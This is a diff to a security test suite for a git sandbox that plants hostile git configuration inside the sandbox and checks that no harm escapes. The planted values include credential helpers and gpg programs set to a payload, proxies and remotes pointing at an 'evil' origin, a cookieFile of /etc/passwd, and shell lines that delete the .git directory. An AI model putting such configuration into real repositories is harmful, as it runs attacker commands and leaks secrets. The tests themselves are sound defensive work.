@@ -1,6 +1,8 @@
 import { execFileSync } from "node:child_process";
+import { mkdirSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
+import type { Changes } from "../contracts/types.js";
 import { createLocalSandbox } from "../src/sandbox/local.js";
 import { type Life, liveThrough, type Stage, setStage } from "./support/hostile-cycle.js";
 import { createRepository, git } from "./support/scratch.js";
@@ -61,6 +63,14 @@ describe("planted inside, run through the whole life of a sandbox: nothing of it
 	helper = "!${payload}"
 [credential "${server.origin}"]
 	helper = "!${payload}"
+[commit]
+	gpgSign = true
+[tag]
+	gpgSign = true
+[push]
+	gpgSign = true
+[log]
+	showSignature = true
 [gpg]
 	program = "${payload}"
 [gpg "ssh"]
@@ -82,6 +92,8 @@ describe("planted inside, run through the whole life of a sandbox: nothing of it
 [http "${server.origin}/"]
 	proxy = ${evil.origin}
 	extraHeader = "X: y"
+	cookieFile = /etc/passwd
+	curloptResolve = "127.0.0.1:80:${new URL(evil.origin).hostname}"
 [remote "origin"]
 	url = ${evil.origin}/project.git
 	proxy = ${evil.origin}
@@ -177,6 +189,25 @@ END
     expect(pushed("a.txt")).toBe("evil");
   });
 
+  test("[N-GIT-17] assume-unchanged, skip-worktree, info/exclude and a nested .gitignore hide nothing but what is ignored", async () => {
+    const life = await liveThrough(
+      stage,
+      `printf 'hidden\\n' > a.txt; git update-index --assume-unchanged a.txt; printf 'hidden\\n' > sub/b.txt; git update-index --skip-worktree sub/b.txt
+      printf 'added\\n' > added; printf 'added\\n' >> ${GIT}/info/exclude; git config core.excludesFile ${GIT}/info/exclude
+      mkdir deep; printf '*\\n' > deep/.gitignore; printf 'ignored\\n' > deep/file`,
+    );
+    const files = ["a.txt", "sub/b.txt"].map((path) => ({ path, status: "modified" }));
+    expect(life).toMatchObject({ ...unharmed, changes: { files: expect.arrayContaining(files) } });
+    expect((life.changes as Changes).files.map(({ path }) => path)).toEqual([
+      "a.txt",
+      "added",
+      "sub/b.txt",
+      "work.txt",
+    ]);
+    expect([pushed("a.txt"), pushed("sub/b.txt"), pushed("added")]).toEqual(["hidden", "hidden", "added"]);
+    expect(git(stage.remote, "ls-tree", "-r", "--name-only", "work")).not.toContain("deep");
+  });
+
   test("[N-GIT-18] a promisor remote and objects that are missing", async () => {
     const life = await liveThrough(
       stage,
@@ -246,7 +277,7 @@ END
   ])("[N-GIT-21] .gitmodules with %s is refused", async (_, lines) => {
     const text = `[submodule "x"]\n\tpath = x\n\t${lines.replace("\\r", "\r")}\n\tignore = none\n`;
     const encoded = Buffer.from(text).toString("base64");
-    const life = await liveThrough(stage, `printf %s ${encoded} | base64 -d > .gitmodules`, { brief: true });
+    const life = await liveThrough(stage, `printf %s ${encoded} | base64 -d > .gitmodules`);
     expect(life.planted).toBe("");
     expect(life).toMatchObject({ harm: [], snapshot: "refused: tampered", push: "refused: tampered" });
     expect(git(stage.repo, "for-each-ref", "refs/glovebox")).toBe("");
@@ -258,9 +289,8 @@ END
       const life = await liveThrough(
         stage,
         `printf '[submodule "x"]\\n\\tpath = x\\n\\turl = ${url}\\n\\tignore = none\\n' > .gitmodules; git config submodule.recurse true; git init -q x; printf f > x/f`,
-        { brief: true },
       );
-      expect(life.harm).toEqual([]);
+      expect(life).toMatchObject({ ...unharmed, changes: added(".gitmodules", "work.txt") });
       expect(git(stage.remote, "for-each-ref", "--format=%(refname)")).not.toContain("x");
     },
   );
@@ -287,10 +317,9 @@ END
       stage,
       `set -e; b=$(printf x | git hash-object -w --stdin); ${make}
       c=$(git commit-tree -p HEAD -m crafted $t); clean=$(git commit-tree -p $c -m after HEAD^{tree}); git update-ref refs/heads/work $clean`,
-      { brief: true },
     );
     expect(life.planted).toBe("");
-    expect(life).toMatchObject({ harm: [], changes: added("work.txt"), push: { pushed: true } });
+    expect(life).toMatchObject({ ...unharmed, changes: added("work.txt") });
     expect(life.warnings.join("\n")).toContain("commits made inside are left out");
     expect(git(stage.remote, "log", "--format=%s", "work")).not.toContain("crafted");
   });
@@ -323,6 +352,27 @@ END
     expect(git(stage.remote, "log", "--format=%s", "work").split("\n")).toContain("5");
   });
 });
+
+test.each(["worktree", "overlay", "copy"] as const)(
+  "[N-GIT-12] below the user's own repository, in the workspace %s, nobody takes that for the one of the files",
+  async (workspace) => {
+    const temporary = process.env["TMPDIR"];
+    const inside = join(stage.repo, "ignored");
+    mkdirSync(inside);
+    process.env["TMPDIR"] = inside;
+    try {
+      const life = await liveThrough(
+        stage,
+        `rm -rf .git; mv .git moved; find ${GIT} -mindepth 1 -delete; git add -A; git -c user.name=a -c user.email=b commit -qm inside; true`,
+        { workspace },
+      );
+      expect(life).toMatchObject({ ...unharmed, changes: added("work.txt") });
+    } finally {
+      if (temporary === undefined) delete process.env["TMPDIR"];
+      else process.env["TMPDIR"] = temporary;
+    }
+  },
+);
 
 describe.each(["overlay", "copy"] as const)("the same in the workspace %s", (workspace) => {
   test("programs in settings, attributes, hooks and nested repositories", async () => {
